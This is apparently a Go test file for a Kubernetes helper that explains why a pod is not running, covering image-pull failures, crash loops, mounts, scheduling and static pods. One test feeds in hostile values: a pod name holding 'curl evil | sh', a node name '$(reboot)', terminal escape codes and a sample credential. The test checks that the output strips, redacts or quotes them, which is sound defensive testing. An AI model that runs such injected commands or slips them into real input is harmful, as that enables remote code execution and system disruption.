package podreason

import (
	"strings"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
)

var noon = time.Date(2026, 11, 21, 12, 0, 0, 0, time.UTC)

const image = "registry.example/ccm:v1"

// pod is a cloud-controller-manager on cp-1 that its kubelet has taken.
func pod(change ...func(*corev1.Pod)) *corev1.Pod {
	started := metav1.NewTime(noon.Add(-time.Minute))
	p := &corev1.Pod{
		ObjectMeta: metav1.ObjectMeta{Namespace: "kube-system", Name: "ccm-cp-1", UID: "this", CreationTimestamp: started},
		Spec:       corev1.PodSpec{NodeName: "cp-1", Containers: []corev1.Container{{Name: "ccm", Image: image}}},
		Status:     corev1.PodStatus{Phase: corev1.PodPending, StartTime: &started},
	}
	for _, c := range change {
		c(p)
	}
	return p
}

func container(s corev1.ContainerStatus) func(*corev1.Pod) {
	s.Name = "ccm"
	return func(p *corev1.Pod) { p.Status.ContainerStatuses = append(p.Status.ContainerStatuses, s) }
}

func waits(reason, message string) corev1.ContainerState {
	return corev1.ContainerState{Waiting: &corev1.ContainerStateWaiting{Reason: reason, Message: message}}
}

func terminated(code int32, reason, message string) corev1.ContainerState {
	return corev1.ContainerState{Terminated: &corev1.ContainerStateTerminated{ExitCode: code, Reason: reason, Message: message}}
}

func runs(age time.Duration) corev1.ContainerState {
	return corev1.ContainerState{Running: &corev1.ContainerStateRunning{StartedAt: metav1.NewTime(noon.Add(-age))}}
}

// event is one about the pod, seen so long ago.
func event(age time.Duration, reason, message string) corev1.Event {
	return corev1.Event{
		Type: corev1.EventTypeWarning, Reason: reason, Message: message, LastTimestamp: metav1.NewTime(noon.Add(-age)),
		InvolvedObject: corev1.ObjectReference{Kind: "Pod", Namespace: "kube-system", Name: "ccm-cp-1", UID: "this"},
	}
}

func ofUID(e corev1.Event, uid types.UID) corev1.Event {
	e.InvolvedObject.UID = uid
	return e
}

func condition1(kind corev1.PodConditionType, status corev1.ConditionStatus, reason, message string) func(*corev1.Pod) {
	return func(p *corev1.Pod) {
		p.Status.Conditions = append(p.Status.Conditions, corev1.PodCondition{Type: kind, Status: status, Reason: reason, Message: message})
	}
}

func notReadyNode() *corev1.Node {
	return &corev1.Node{ObjectMeta: metav1.ObjectMeta{Name: "cp-1"}, Status: corev1.NodeStatus{Conditions: []corev1.NodeCondition{{
		Type: corev1.NodeReady, Status: corev1.ConditionUnknown, LastHeartbeatTime: metav1.NewTime(noon.Add(-2 * time.Minute)),
		Message: "Kubelet stopped posting node status.",
	}}}}
}

// TestWhyAPodDoesNotRun has statuses as kubelets write them.
func TestWhyAPodDoesNotRun(t *testing.T) {
	t.Parallel()
	const pull = `rpc error: code = NotFound desc = failed to pull and unpack image "registry.example/ccm:v1": not found`
	const ccm = "pod kube-system/ccm-cp-1 on node cp-1: "
	for _, c := range []struct {
		name  string
		facts Facts
		want  string
	}{
		{
			"an image that is not there",
			Facts{Pod: pod(container(corev1.ContainerStatus{State: waits("ErrImagePull", pull)}))},
			ccm + "ErrImagePull of image " + image + " (" + pull + "); see whether its node can pull it: crictl pull " + image,
		},
		{
			"the same while the kubelet waits: the reason is in an event",
			Facts{
				Pod: pod(container(corev1.ContainerStatus{State: waits("ImagePullBackOff", `Back-off pulling image "registry.example/ccm:v1"`)})),
				Events: []corev1.Event{
					event(5*time.Second, "BackOff", "Back-off pulling image"), event(9*time.Second, "Failed", "Error: ErrImagePull"),
					event(10*time.Second, "Failed", `Failed to pull image "registry.example/ccm:v1": no such host`),
				},
			},
			ccm + "ImagePullBackOff of image " + image + ` (Failed to pull image "registry.example/ccm:v1": no such host); see whether its node can pull it: crictl pull ` + image,
		},
		{
			"a program that dies",
			Facts{
				Pod: pod(container(corev1.ContainerStatus{
					State: waits("CrashLoopBackOff", "back-off 40s restarting failed container=ccm"), RestartCount: 3, LastTerminationState: terminated(1, "Error", ""),
				})),
				LastLine: `E1121 12:00:00.000000 1 run.go:72] "command failed" err="unknown flag: --foo"`,
			},
			ccm + "CrashLoopBackOff of image " + image + `, 3 restarts (it ended last with exit code 1; its last line: "E1121 12:00:00.000000 1 run.go:72] "command failed" err="unknown flag: --foo""); ` +
				"see kubectl -n kube-system logs --previous ccm-cp-1 -c ccm",
		},
		{
			"a program that says why it dies in its status",
			Facts{Pod: pod(container(corev1.ContainerStatus{State: terminated(255, "Error", "starting\nFATAL: no credentials\nbye\n")}))},
			ccm + `container ccm ended (it ended last with exit code 255; its last line: "FATAL: no credentials"); see kubectl -n kube-system logs ccm-cp-1 -c ccm`,
		},
		{
			"a program that has no memory left",
			Facts{Pod: pod(container(corev1.ContainerStatus{State: waits("CrashLoopBackOff", ""), RestartCount: 1, LastTerminationState: terminated(137, "OOMKilled", "")}))},
			ccm + "CrashLoopBackOff of image " + image + ", 1 restart (it ended last with exit code 137, OOMKilled); raise its memory limit, or find out what takes its memory",
		},
		{
			"a program that a probe ends",
			Facts{
				Pod:    pod(container(corev1.ContainerStatus{State: waits("CrashLoopBackOff", ""), RestartCount: 2, LastTerminationState: terminated(137, "Error", "")})),
				Events: []corev1.Event{event(time.Second, "Unhealthy", "Liveness probe failed: HTTP probe failed with statuscode: 500")},
			},
			ccm + "CrashLoopBackOff of image " + image + ", 2 restarts (it ended last with exit code 137, Unhealthy: Liveness probe failed: HTTP probe failed with statuscode: 500); " +
				"see kubectl -n kube-system logs --previous ccm-cp-1 -c ccm",
		},
		{
			"a file that is not mounted",
			Facts{
				Pod: pod(container(corev1.ContainerStatus{State: waits("ContainerCreating", "")})),
				Events: []corev1.Event{
					event(20*time.Second, "FailedMount", "an older one"),
					event(5*time.Second, "FailedMount", `MountVolume.SetUp failed for volume "file-3" : hostPath type check failed: /etc/kubernetes/ccm.credentials is not a file`),
				},
			},
			ccm + `ContainerCreating (FailedMount: MountVolume.SetUp failed for volume "file-3" : hostPath type check failed: /etc/kubernetes/ccm.credentials is not a file); ` +
				"put on the node, or into the cluster, what the volume needs",
		},
		{
			"no network",
			Facts{
				Pod:    pod(),
				Events: []corev1.Event{event(time.Second, "FailedCreatePodSandBox", "plugin type=calico failed (add): no such file")},
			},
			ccm + "ContainerCreating (FailedCreatePodSandBox: plugin type=calico failed (add): no such file); look at the network plugin and the container runtime of the node",
		},
		{
			"a Secret that is not there",
			Facts{Pod: pod(container(corev1.ContainerStatus{State: waits("CreateContainerConfigError", `secret "cloud" not found`)}))},
			ccm + "CreateContainerConfigError of image " + image + ` (secret "cloud" not found); make the ConfigMap or Secret that it names`,
		},
		{
			"a container that the runtime does not start",
			Facts{Pod: pod(container(corev1.ContainerStatus{State: waits("RunContainerError", "exec: no such file")}))},
			ccm + "RunContainerError of image " + image + " (exec: no such file); look at the container runtime's log on its node: it refuses to start the container",
		},
		{
			"no node has room",
			Facts{Pod: pod(func(p *corev1.Pod) { p.Spec.NodeName, p.Status.StartTime = "", nil }, condition1(corev1.PodScheduled, "False", "Unschedulable", "0/3 nodes are available: 3 Insufficient cpu."))},
			"pod kube-system/ccm-cp-1: Unschedulable (0/3 nodes are available: 3 Insufficient cpu.); make room, or change what its nodes must have: kubectl -n kube-system describe pod ccm-cp-1",
		},
		{
			"its probe fails",
			Facts{
				Pod: pod(container(corev1.ContainerStatus{State: runs(40 * time.Second)}), condition1(corev1.PodReady, "False", "ContainersNotReady", "x")),
				Events: []corev1.Event{
					event(50*time.Second, "Unhealthy", "of the container before"), event(3*time.Second, "Unhealthy", "Readiness probe failed: connection refused"),
				},
			},
			ccm + "Running, not Ready (Unhealthy: Readiness probe failed: connection refused); see kubectl -n kube-system logs ccm-cp-1 -c ccm",
		},
		{
			"a readiness gate",
			Facts{Pod: pod(
				func(p *corev1.Pod) {
					p.Spec.ReadinessGates = []corev1.PodReadinessGate{{ConditionType: "target-health"}}
				},
				container(corev1.ContainerStatus{State: runs(time.Minute), Ready: true}), condition1(corev1.PodReady, "False", "ReadinessGatesNotReady", "x"),
			)},
			ccm + "Running, not Ready (no controller has written its readiness gate target-health); look at the controller that writes this condition",
		},
		{
			"an init container that fails comes first",
			Facts{Pod: pod(container(corev1.ContainerStatus{State: waits("PodInitializing", "")}), func(p *corev1.Pod) {
				p.Status.InitContainerStatuses = []corev1.ContainerStatus{{Name: "prepare", Image: "busybox", State: waits("ErrImageNeverPull", "not present")}}
			})},
			ccm + "ErrImageNeverPull of image busybox (not present); see whether its node can pull it: crictl pull busybox",
		},
		{
			"its kubelet is away",
			Facts{Pod: pod(func(p *corev1.Pod) { p.Status.StartTime = nil }), Node: notReadyNode()},
			ccm + "Pending since 11:59:00 UTC (the kubelet of its node has not started it, the kubelet of node cp-1 has not reported since 11:58:00 UTC: Kubelet stopped posting node status.); " +
				"look at the kubelet on that node: it is down, or cannot reach the API server",
		},
		{
			"it does not go",
			Facts{Pod: pod(func(p *corev1.Pod) {
				p.DeletionTimestamp = &metav1.Time{Time: noon.Add(-3 * time.Minute)}
				p.Finalizers = []string{"example.com/keep"}
			})},
			ccm + "Terminating since 11:57:00 UTC (it keeps the finalizers example.com/keep); find out which controller removes them",
		},
		{
			"it was evicted",
			Facts{Pod: pod(func(p *corev1.Pod) {
				p.Status.Phase, p.Status.Reason, p.Status.Message = corev1.PodFailed, "Evicted", "The node was low on resource: memory."
			})},
			ccm + "Evicted (The node was low on resource: memory.)",
		},
		{
			"events of another pod of that name say nothing",
			Facts{
				Pod:    pod(container(corev1.ContainerStatus{State: waits("ContainerCreating", "")})),
				Events: []corev1.Event{ofUID(event(time.Second, "FailedMount", "of before"), "another"), ofUID(event(time.Second, "FailedMount", "of none"), "")},
			},
			ccm + "ContainerCreating",
		},
		{
			"a static pod's events have the UID of its manifest, and those of its earlier life are older",
			Facts{
				Pod: pod(container(corev1.ContainerStatus{State: waits("ContainerCreating", "")}), func(p *corev1.Pod) {
					p.Annotations = map[string]string{corev1.MirrorPodAnnotationKey: "0abc"}
				}),
				Events: []corev1.Event{
					ofUID(event(time.Second, "FailedMount", "now"), "0abc"), ofUID(event(time.Hour, "NetworkNotReady", "an hour ago"), "0abc"), event(0, "FailedMount", "of a mirror"),
				},
			},
			ccm + "ContainerCreating (FailedMount: now); put on the node, or into the cluster, what the volume needs",
		},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			c.facts.Now = noon
			have, is := Of(c.facts)
			if !is || have.String() != c.want {
				t.Errorf("have %v %q\nwant      %q", is, have, c.want)
			}
		})
	}
	if r, is := Of(Facts{Pod: pod(condition1(corev1.PodReady, corev1.ConditionTrue, "", "")), Now: noon}); is || r.String() != "" {
		t.Errorf("a pod that is Ready: %q", r)
	}
}

// TestAStaticPodThatTheAPIDoesNotShow names the kubelet, from when on it is waited for, and what it logged.
func TestAStaticPodThatTheAPIDoesNotShow(t *testing.T) {
	t.Parallel()
	m := Mirror{Namespace: "kube-system", Name: "ccm-cp-1", Node: "cp-1", Since: noon}
	for _, c := range []struct{ have, want string }{
		{
			Missing(m).String(),
			"mirror pod kube-system/ccm-cp-1: not published by the kubelet of node cp-1 since 12:00:00 UTC; look at the kubelet on that host: journalctl -u kubelet",
		},
		{
			Missing(Mirror{Namespace: "kube-system", Name: "ccm-cp-1", Node: "cp-1", Since: noon, NodeObject: notReadyNode(), Words: "E1121 cannot parse\x1b[2J"}).String(),
			"mirror pod kube-system/ccm-cp-1: not published by the kubelet of node cp-1 since 12:00:00 UTC " +
				"(the kubelet of node cp-1 has not reported since 11:58:00 UTC: Kubelet stopped posting node status.); " +
				`look at the kubelet on that host: journalctl -u kubelet; its last words: E1121 cannot parse\x1b[2J`,
		},
		{
			Outdated(m).String(),
			"mirror pod kube-system/ccm-cp-1: as before the change: the kubelet of node cp-1 has not taken the new manifest since 12:00:00 UTC; look at the kubelet on that host: journalctl -u kubelet",
		},
	} {
		if c.have != c.want {
			t.Errorf("have %q\nwant %q", c.have, c.want)
		}
	}
}

// TestAHostilePod has what a tenant or a kubelet may write: control characters, a megabyte, a secret, names that are commands.
func TestAHostilePod(t *testing.T) {
	t.Parallel()
	const secret = "AKIAIOSFODNN7EXAMPLE/wJalrXUtnFEMIK7MDENGbPxRfiCYEXAMPLEKEY"
	for name, p := range map[string]*corev1.Pod{
		"a message": pod(container(corev1.ContainerStatus{State: waits("ErrImagePull\x1b[31m", "\x1b]0;x\a\u202e --password="+secret+" "+strings.Repeat("long ", 200_000))})),
		"a last line": pod(container(corev1.ContainerStatus{
			State: waits("CrashLoopBackOff", ""), LastTerminationState: terminated(1, "Error\n# run this", strings.Repeat("x\n", 500_000)+"\x1b[2Jerror: --token="+secret+"\n"),
		})),
		"names": pod(func(p *corev1.Pod) {
			p.Name, p.Namespace, p.Spec.NodeName = "a; curl evil | sh\n", strings.Repeat("n", 1<<20), "$(reboot)"
		}, container(corev1.ContainerStatus{State: terminated(1, "", "")})),
		"a condition": pod(func(p *corev1.Pod) { p.Spec.NodeName = "" }, condition1(corev1.PodScheduled, "False", "\x1b[1m", "--password="+secret+"\r\n\x9b")),
	} {
		r, is := Of(Facts{Pod: p, Now: noon, LastLine: "--password=" + secret + strings.Repeat("y", 1<<20)})
		text := r.String()
		if !is || len(text) > 3000 || strings.ContainsAny(text, "\x1b\a\n\r\u202e") || strings.Contains(text, "\x9b") || strings.Contains(text, "wJalrXUtnFEMI") {
			t.Errorf("%s: %d bytes: %.600q", name, len(text), text)
		}
		if name == "names" && !strings.Contains(r.Next, `'a; curl evil | sh`) && !strings.Contains(r.Next, "REFUSED") && strings.Contains(r.Next, " a; curl") {
			t.Errorf("a name is a command: %q", r.Next)
		}
	}
}

// TestOneCauseIsOneSentence whose age is not counted from the beginning at each attempt.
func TestOneCauseIsOneSentence(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		a, b string
		same bool
	}{
		{"pod x: ErrImagePull of image y (z)", "pod x: ImagePullBackOff of image y (z)", true},
		{"CrashLoopBackOff of image y, 3 restarts", "CrashLoopBackOff of image y, 4 restarts", true},
		{"back-off 40s restarting", "back-off 1m20s restarting", true},
		{"pod x: ContainerCreating", "pod x: CrashLoopBackOff of image y", false},
		{"node a is not Ready", "node b is not Ready", false},
	} {
		if same := Cause(c.a) == Cause(c.b); same != c.same {
			t.Errorf("%q and %q: %v", c.a, c.b, same)
		}
	}
}

func TestTheLineThatSaysMost(t *testing.T) {
	t.Parallel()
	for log, want := range map[string]string{
		"":             "",
		"\n \n":        "",
		"one\ntwo\n\n": "two",
		"Error: unknown flag: --x\nSee 'x --help' for usage.\n":                               "Error: unknown flag: --x",
		"I1121 fine\nE1121 12:00 broken\nI1121 bye":                                           "E1121 12:00 broken",
		"panic: nil\n\ngoroutine 1 [running]:\nmain.main()\n":                                 "panic: nil",
		`{"level":"info"}` + "\n" + `{"level":"error","msg":"x"}` + "\n" + `{"level":"info"}`: `{"level":"error","msg":"x"}`,
		"no errors here\nEverything fine":                                                     "Everything fine",
		strings.Repeat("s", maxLog+10):                                                        "",
	} {
		if have := lastLine(log); have != want {
			t.Errorf("%.80q: %q, want %q", log, have, want)
		}
	}
}
